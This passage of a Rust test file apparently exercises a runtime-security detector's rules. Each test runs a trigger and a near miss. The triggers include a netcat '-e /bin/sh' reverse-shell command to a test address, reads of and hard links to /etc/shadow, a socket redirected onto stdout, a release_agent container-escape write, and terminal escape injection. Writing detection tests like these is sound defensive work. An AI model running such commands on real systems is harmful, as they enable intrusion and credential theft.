    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "fd.name"), "/etc/shadow");
    assert_eq!(f(a[0], "proc.name"), "nginx");
}

/// System user interactive: a system user's process (`daemon`) under an
/// `sshd` ancestor (a shell copy so named); the same under a user that is no
/// system user (uid 12345) is the near miss.
fn system_user_interactive() {
    let d = scratch();
    let script = "cp /bin/sh ./sshd; ./sshd -c '\
        setpriv --reuid=daemon --regid=daemon --clear-groups sh -c \"true; true\"; \
        setpriv --reuid=12345 --regid=12345 --clear-groups sh -c \"true; true\"; true'";
    let r = quell_run(d.path(), &[STABLE], script);
    let a = stable_alerts(&r, "System user interactive");
    assert!(!a.is_empty(), "{:?}\n{}", r.rules(), r.stderr);
    for x in &a {
        assert_eq!(f(x, "user.name"), "daemon", "{x}");
    }
}

/// Terminal shell in container: in a container, a shell whose parent is the
/// runtime (a shell copy named `runc`) with a terminal (`script` gives a
/// pty); the same without a terminal (`setsid`: no controlling tty) is the
/// near miss.
fn terminal_shell_in_container() {
    let c = Ctr::new("7e7711");
    let d = scratch();
    let script = format!(
        "cp /bin/sh ./runc; {}; script -qec \"./runc -c 'sh -c true; true'\" /dev/null < /dev/null; \
         setsid -w ./runc -c 'sh -c \"true; true\"; true'",
        c.enter()
    );
    let r = quell_run(d.path(), &[STABLE], &script);
    let a = stable_alerts(&r, "Terminal shell in container");
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "proc.name"), "sh");
    assert_eq!(f(a[0], "proc.pname"), "runc");
    assert_ne!(f(a[0], "proc.tty"), &Json::from(0));
}

/// Netcat Remote Code Execution in Container: `nc -e` in a container (a
/// stand-in binary named `nc`: no netcat is installed, and the rule reads
/// only the name and the command line); `nc -z` is the near miss.
fn netcat_remote_code_execution_in_container() {
    let c = Ctr::new("0cacce");
    let d = scratch();
    let script = format!(
        "cp /bin/true ./nc; {}; ./nc -e /bin/sh 198.51.100.1 4444; ./nc -z 198.51.100.1 4444",
        c.enter()
    );
    let r = quell_run(d.path(), &[STABLE], &script);
    let a = stable_alerts(&r, "Netcat Remote Code Execution in Container");
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "proc.cmdline"), "nc -e /bin/sh 198.51.100.1 4444");
}

/// Packet socket created in container: an `AF_PACKET` socket in a container;
/// the same socket on the host (before the shell joins the container) is the
/// near miss.
fn packet_socket_created_in_container() {
    let c = Ctr::new("9acce7");
    let d = scratch();
    let sock = "perl -e 'socket(my $s, 17, 3, 0) or die \"socket: $!\"'";
    let script = format!("{sock}; {}; {sock}", c.enter());
    let r = quell_run(d.path(), &[STABLE], &script);
    let a = stable_alerts(&r, "Packet socket created in container");
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "proc.name"), "perl");
}

/// Redirect STDOUT/STDIN to Network Connection in Container: stdout
/// duplicated from a connected UDP socket (`dup2(sock, 1)`, as a reverse
/// shell does); stdout duplicated from a regular file is the near miss.
fn redirect_stdout_to_network_connection_in_container() {
    let c = Ctr::new("5d0d0e");
    let d = scratch();
    let script = format!(
        "{}; perl -e 'use Socket; use POSIX; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die; \
         connect($s, pack_sockaddr_in(9, inet_aton(\"127.0.0.1\"))) or die \"connect: $!\"; \
         defined POSIX::dup2(fileno($s), 1) or die \"dup2: $!\"'; \
         perl -e 'use POSIX; open(my $f, \">\", \"out.txt\") or die; defined POSIX::dup2(fileno($f), 1) or die'",
        c.enter()
    );
    let r = quell_run(d.path(), &[STABLE], &script);
    let a = stable_alerts(
        &r,
        "Redirect STDOUT/STDIN to Network Connection in Container",
    );
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "proc.name"), "perl");
}

/// Detect release_agent File Container Escapes: root in a container opens a
/// file named `release_agent` for writing (a scratch file: the rule reads
/// the name, not whether it is a cgroup v1 control file); reading it is the
/// near miss.
fn release_agent_file_container_escape() {
    let c = Ctr::new("4e1ea5");
    let d = scratch();
    let script = format!(
        "{}; echo /x > ./release_agent; cat ./release_agent > /dev/null",
        c.enter()
    );
    let r = quell_run(d.path(), &[STABLE], &script);
    let a = stable_alerts(&r, "Detect release_agent File Container Escapes");
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(
        f(a[0], "fd.name"),
        &Json::from(format!("{}/release_agent", d.path().display()))
    );
}

/// Remove Bulk Data from Disk: `shred` of a scratch file; `rm` is the near miss.
fn remove_bulk_data_from_disk() {
    let d = scratch();
    let script = "head -c 4096 /dev/zero > a.bin; cp a.bin b.bin; shred -u a.bin; rm b.bin";
    let r = quell_run(d.path(), &[STABLE], script);
    let a = stable_alerts(&r, "Remove Bulk Data from Disk");
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "proc.name"), "shred");
    assert!(!d.path().join("a.bin").exists());
}

/// Create Hardlink Over Sensitive Files: a hard link to /etc/shadow (in the
/// scratch directory, on the same filesystem, removed at once); a link to
/// /etc/hostname is the near miss.
fn create_hardlink_over_sensitive_files() {
    let d = scratch();
    let script = "ln /etc/shadow ./s.lnk && rm ./s.lnk; ln /etc/hostname ./h.lnk && rm ./h.lnk";
    let r = quell_run(d.path(), &[STABLE], script);
    let a = stable_alerts(&r, "Create Hardlink Over Sensitive Files");
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "evt.arg.oldpath"), "/etc/shadow");
    assert_eq!(f(a[0], "proc.name"), "ln");
}

/// PTRACE anti-debug attempt: `ptrace(PTRACE_TRACEME)`; a `PTRACE_PEEKDATA`
/// is the near miss.
fn ptrace_anti_debug_attempt() {
    let d = scratch();
    let script = "perl -e 'syscall(101, 0, 0, 0, 0)'; perl -e 'syscall(101, 2, 999999, 0, 0)'";
    let r = quell_run(d.path(), &[STABLE], script);
    let a = stable_alerts(&r, "PTRACE anti-debug attempt");
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "proc.name"), "perl");
}

/// Disallowed SSH Connection Non Standard Port: `ssh -p 443` to a public
/// (TEST-NET-2) address, in a network namespace of the test's own where
/// that address range is local (the connection is refused at once; the
/// non-blocking connect gives `EINPROGRESS`, which the `outbound` macro
/// accepts); `ssh -p 2222` is the near miss.
fn disallowed_ssh_connection_non_standard_port() {
    let d = scratch();
    let ssh = "ssh -F /dev/null -o ConnectTimeout=2 -o BatchMode=yes -o StrictHostKeyChecking=no \
               -o UserKnownHostsFile=/dev/null";
    let script = format!(
        "exec unshare --net sh -c 'ip link set lo up && ip addr add 198.51.100.1/24 dev lo && \
         {{ {ssh} -p 443 root@198.51.100.7 true; {ssh} -p 2222 root@198.51.100.7 true; true; }}'"
    );
    let r = quell_run(d.path(), &[STABLE], &script);
    let a = stable_alerts(&r, "Disallowed SSH Connection Non Standard Port");
    assert_eq!(a.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(a[0], "fd.rport"), 443);
    assert_eq!(f(a[0], "proc.name"), "ssh");
}

/// Set Setuid or Setgid bit (incubating rules): `evt.arg.mode` names the
/// bits as libsinsp does (`S_ISUID`), so `chmod 4755` and `chmod g+s` fire;
/// `chmod 755` is the near miss.
fn set_setuid_or_setgid_bit() {
    let d = scratch();
    let script =
        "cp /bin/true ./helper; chmod 4755 ./helper; chmod g+s ./helper; chmod 755 ./helper";
    let r = quell_run(d.path(), &[STABLE, INCUBATING], script);
    let a = stable_alerts(&r, "Set Setuid or Setgid bit");
    assert_eq!(a.len(), 2, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(
        f(a[0], "evt.arg.mode"),
        "S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID"
    );
    assert!(
        f(a[1], "evt.arg.mode")
            .as_str()
            .unwrap_or("")
            .ends_with("S_ISGID|S_ISUID"),
        "{}",
        a[1]
    );
}

/// `proc.env` live: the environment comes with the exec (as Falco bounds
/// it, 4096 bytes). The incubating rule `Program run with disallowed http
/// proxy env` fires on `curl` run with `HTTP_PROXY` set and not on the same
/// `curl` without it; `proc.env[NAME]` reads one variable.
fn process_environment_at_exec() {
    let d = scratch();
    let rules = d.path().join("env.yaml");
    std::fs::write(
        &rules,
        "- rule: Marked probe\n  desc: d\n  \
         condition: evt.type in (execve, execveat) and proc.name = probe and proc.env[QUELL_LIVE_MARK] = \"42 x\"\n  \
         output: probe (mark=%proc.env[QUELL_LIVE_MARK])\n  priority: NOTICE\n",
    )
    .unwrap();
    let script =
        "cp /bin/true ./probe; QUELL_LIVE_MARK='42 x' ./probe; QUELL_LIVE_MARK=4 ./probe; \
                  HTTP_PROXY=http://198.51.100.1:3128 curl --version > /dev/null; \
                  env -u HTTP_PROXY -u http_proxy curl --version > /dev/null";
    let r = quell_run(
        d.path(),
        &[STABLE, INCUBATING, rules.to_str().unwrap()],
        script,
    );
    let probe = stable_alerts(&r, "Marked probe");
    assert_eq!(probe.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    assert_eq!(f(probe[0], "proc.env[QUELL_LIVE_MARK]"), "42 x");
    let proxy = stable_alerts(&r, "Program run with disallowed http proxy env");
    assert_eq!(proxy.len(), 1, "{:?}\n{}", r.rules(), r.stderr);
    let env = f(proxy[0], "proc.env").as_str().unwrap_or("");
    assert!(
        env.split(' ')
            .any(|e| e == "HTTP_PROXY=http://198.51.100.1:3128"),
        "{env}"
    );
    assert!(env.len() <= 4096, "{}", env.len());
}

/// `quell run`'s text alerts show control characters, escape sequences and
/// bidi overrides from a live process escaped (through the one escaping
/// function of the binary's output): an OSC title sequence, a `\r` that would
/// forge the start of a line, a `\n`, a CSI "clear screen" in the process
/// name, and U+202E in the command line give one line each, with no raw
/// control character on standard output or standard error.
fn run_text_escapes_what_live_processes_carry() {
    require_live();
    let d = scratch();
    let rules = d.path().join("hostile.yaml");
    std::fs::write(
        &rules,
        "- rule: hostile exec\n  desc: a process started from the scratch directory\n  condition: evt.type in (execve, execveat) and proc.exepath startswith \"/tmp/\" and proc.exepath contains \"quell-live-\"\n  output: \"exec name=%proc.name cmdline=%proc.cmdline\"\n  priority: WARNING\n",
    )
    .unwrap();
    // A copy of `true` whose name holds ESC [2J, run with hostile arguments.
    let script = "cp /bin/true \"./t$(printf '\\033[2J')x\" && \
                  \"./t$(printf '\\033[2J')x\" \"$(printf '\\033]0;pwned\\007')\" \
                  \"$(printf 'a\\r2026-01-01 Notice all is well')\" \"$(printf 'b\\nForged: line')\" \
                  \"$(printf 'gnp\\342\\200\\256exe')\"";
    let out = Command::new(QUELL)
        .args(["run", "-r"])
        .arg(&rules)
        .args(["--", "sh", "-c", script])
        .current_dir(d.path())
        .output()
        .expect("run quell");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "{stderr}");
    let raw = |s: &str| {
        s.chars().find(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
        })
    };
    assert_eq!(raw(&text), None, "raw control on stdout: {text:?}");
    assert_eq!(raw(&stderr), None, "raw control on stderr: {stderr:?}");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 1, "one alert, one line, none forged: {text}");
    let line = lines[0];
    for want in [
        r"name=t\u001b[2Jx",
        r"\u001b]0;pwned\u0007",
        r"a\r2026-01-01 Notice all is well",
        r"b\nForged: line",
        r"gnp\u202eexe",
    ] {
        assert!(line.contains(want), "{want} not in {line}");
    }
}

/// Every rule the upstream stable file enables has a row in the capture
/// crate's README table: a live test that fires it (each test named there is
/// a test of this file, registered with the harness), or why it cannot fire on
/// a test machine. Runs without root (it reads files and `quell rules --json`).
fn every_enabled_stable_rule_has_a_live_test_or_a_reason() {
    let out = Command::new(QUELL)
        .args(["rules", "--json", "-r", STABLE])
        .output()
        .expect("run quell rules");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let j: Json = serde_json::from_slice(&out.stdout).expect("rules --json");
    let enabled: Vec<String> = j["rules"]
        .as_array()
        .expect("rules")
        .iter()
        .filter(|r| r["enabled"] == true)
        .map(|r| r["name"].as_str().unwrap_or("").to_string())
        .collect();
    assert!(enabled.len() >= 20, "{enabled:?}");
    let readme = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../quell-capture/README.md"
    ))
    .expect("quell-capture/README.md");
    let this = std::fs::read_to_string(file!())
        .or_else(|_| std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/live.rs")))
        .expect("live.rs");
    // | Rule[, Rule...] | `test` ..., or why not |
    let rows: Vec<(Vec<&str>, &str)> = readme
        .lines()
        .filter_map(|l| {
            let cells: Vec<&str> = l
                .trim()
                .strip_prefix('|')?
                .strip_suffix('|')?
                .split('|')
                .collect();
            (cells.len() == 2).then(|| (cells[0].split(", ").map(str::trim).collect(), cells[1]))
        })
        .collect();
    let mut wrong = vec![];
    for rule in &enabled {
        let Some((_, how)) = rows
            .iter()
            .find(|(names, _)| names.contains(&rule.as_str()))
        else {
            wrong.push(format!("{rule}: no row in quell-capture/README.md"));
            continue;
        };
        // Backticked snake_case names are tests of this file, registered with the harness.
        for name in how.split('`').skip(1).step_by(2) {
            let is_test_name = name.contains('_')
                && name
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_');
            if is_test_name
                && !(this.contains(&format!("\nfn {name}() {{")) && LIVE_TESTS.contains(&name))
            {
                wrong.push(format!(
                    "{rule}: `{name}` is not a registered test of live.rs"
                ));
            }
        }
        if how.trim().is_empty() {
            wrong.push(format!("{rule}: neither a test nor a reason"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// `quell run` whose output cannot be written never panics: stdout full
/// (`> /dev/full`) is exit 1 with one line saying so, stderr full is exit 1,
/// stdout closed (`| true`) is a clean exit 0; the read of /etc/shadow alerts,
/// so each run has an alert to write. (Without root, `run` exits 2 before
/// writing anything: `unsupported_is_one_sentence_and_exit_2`.)
fn run_with_unwritable_output_never_panics() {
    require_live();
    use std::process::Stdio;
    let dev_full = || {
        std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .expect("/dev/full")
    };
    let args = ["run", "--", "sh", "-c", "cat /etc/shadow > /dev/null"];
    let no_panic = |what: &str, o: &Output| {
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            o.status.code() != Some(101) && !err.contains("panicked"),
            "{what}: panicked ({}): {err}",
            o.status
        );
    };
    let full = Command::new(QUELL)
        .args(args)
        .stdout(dev_full())
        .stderr(Stdio::piped())
        .output()
        .unwrap();
    no_panic("run > /dev/full", &full);
    let err = String::from_utf8_lossy(&full.stderr);
    assert_eq!(full.status.code(), Some(1), "{err}");
    assert!(
        err.contains("quell: error: cannot write the output: No space left on device"),
        "{err}"
    );
    let err_full = Command::new(QUELL)
        .args(args)
        .stdout(Stdio::null())
        .stderr(dev_full())
        .output()
        .unwrap();
    no_panic("run 2>/dev/full", &err_full);
    assert_eq!(err_full.status.code(), Some(1));
    let mut child = Command::new(QUELL)
        .args(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let closed = child.wait_with_output().unwrap();
    no_panic("run | true", &closed);
    assert_eq!(
        closed.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&closed.stderr)
    );
}

live_tests![
    credential_searches_and_traversal_read,
    clear_log_by_truncation,
    clear_log_near_miss_append,
    clear_log_by_rm,
    clear_log_near_miss_rm_elsewhere,
    read_sensitive_file,
    read_sensitive_file_near_miss,
    shell_spawned_by_web_server,
    shell_spawned_near_miss,
    execution_from_dev_shm,
    execution_from_dev_shm_near_miss,
    symlink_over_sensitive_file,
    symlink_near_miss,
    shell_connects_to_loopback_listener,
    connect_near_miss_not_a_shell,
    ptrace_attach,
    ptrace_near_miss_peek,
    fileless_execution_via_memfd,
    fileless_near_miss_regular_exec,
    container_deletes_dpkg_log,
    unsupported_is_one_sentence_and_exit_2,
    container_drop_and_execute_new_binary,
    prefilter_leaves_every_alert_in_place,
    a_rule_on_close_sees_closes_of_unknown_fds,
    a_key_read_under_a_searched_tree_has_its_full_path,
    start_up_names_the_rules_that_can_never_fire_live,
    read_sensitive_file_trusted_after_startup,
    system_user_interactive,
    terminal_shell_in_container,
    netcat_remote_code_execution_in_container,
    packet_socket_created_in_container,
    redirect_stdout_to_network_connection_in_container,
    release_agent_file_container_escape,
    remove_bulk_data_from_disk,
    create_hardlink_over_sensitive_files,
    ptrace_anti_debug_attempt,
    disallowed_ssh_connection_non_standard_port,
    server_host_name_from_the_names_conditions_mention,
    set_setuid_or_setgid_bit,
    process_environment_at_exec,
    run_text_escapes_what_live_processes_carry,
    run_with_unwritable_output_never_panics,
    ; always: every_enabled_stable_rule_has_a_live_test_or_a_reason
];
